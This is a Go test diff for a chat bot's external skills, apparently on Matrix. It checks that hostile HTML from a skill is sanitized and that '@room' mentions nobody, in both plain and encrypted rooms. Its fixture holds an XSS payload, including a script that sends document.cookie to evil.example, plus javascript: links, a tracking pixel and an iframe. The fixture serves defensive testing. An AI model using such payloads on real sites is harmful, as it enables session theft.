@@ -166,6 +166,14 @@ func TestExternalSkills(t *testing.T) {
 		t.Errorf("the bot said more than expected: %v", extra)
 	}
 
+	// Hostile HTML from a skill reaches the room as the spec's subset, and
+	// its "@room" pings nobody: the message says whom it mentions (no one).
+	if ev := ask(t, alice, room, "!nonsense html", botID); ev.Content["formatted_body"] != safeHTML {
+		t.Fatalf("hostile HTML sent as %q, want %q", ev.Content["formatted_body"], safeHTML)
+	} else if m, ok := ev.Content["m.mentions"].(map[string]any); !ok || len(m) != 0 {
+		t.Fatalf("m.mentions = %v, want {}", ev.Content["m.mentions"])
+	}
+
 	// An encrypted room: the skill gets the decrypted message, and the bot
 	// answers encrypted.
 	bob := w.HS.RegisterUser(t, "bob")
@@ -182,6 +190,10 @@ func TestExternalSkills(t *testing.T) {
 		t.Fatalf("encrypted room, nonsense: got %+v", m)
 	}
 	req = nonsense.last(t)
+	nio.Send(secretRoom, "!nonsense html")
+	if m := nio.WaitMessage(secretRoom, botID, wait); m.FormattedBody != safeHTML || !m.Encrypted || m.Mentions == nil || m.Mentions.Room || len(m.Mentions.UserIDs) != 0 {
+		t.Fatalf("encrypted room, hostile HTML: got %+v (mentions %+v)", m, m.Mentions)
+	}
 	var content struct {
 		Body    string `json:"body"`
 		MsgType string `json:"msgtype"`
@@ -283,6 +295,15 @@ type externalRequest struct {
 	} `json:"match"`
 }
 
+// hostileHTML is HTML no room should get as written; safeHTML is what
+// the spec's subset leaves of it.
+const (
+	hostileHTML = `<b>@room</b> <script>fetch("https://evil.example/"+document.cookie)</script>` +
+		`<a href="javascript:alert(1)" onclick="alert(2)">details</a><img src="https://evil.example/t.png" alt="pixel">` +
+		`<iframe src="https://evil.example/"></iframe><p style="position:fixed">end</p>`
+	safeHTML = `<b>@room</b> <a>details</a>pixel<p>end</p>`
+)
+
 // nonsenseSkill checks each request's signature and answers with an
 // action type that does not exist.
 type nonsenseSkill struct {
@@ -308,6 +329,11 @@ func newNonsenseSkill(t *testing.T, secret string) *nonsenseSkill {
 		n.requests = append(n.requests, req)
 		n.mu.Unlock()
 		w.Header().Set("Content-Type", "application/json")
+		if req.Match.Args["text"] == "html" {
+			// What a compromised or careless skill might answer.
+			_, _ = io.WriteString(w, `{"actions":[{"type":"reply","text":"@room hostile","html":`+strconv.Quote(hostileHTML)+`}]}`)
+			return
+		}
 		_, _ = io.WriteString(w, `{"actions":[{"type":"replay"}]}`)
 	}))
 	t.Cleanup(n.srv.Close)
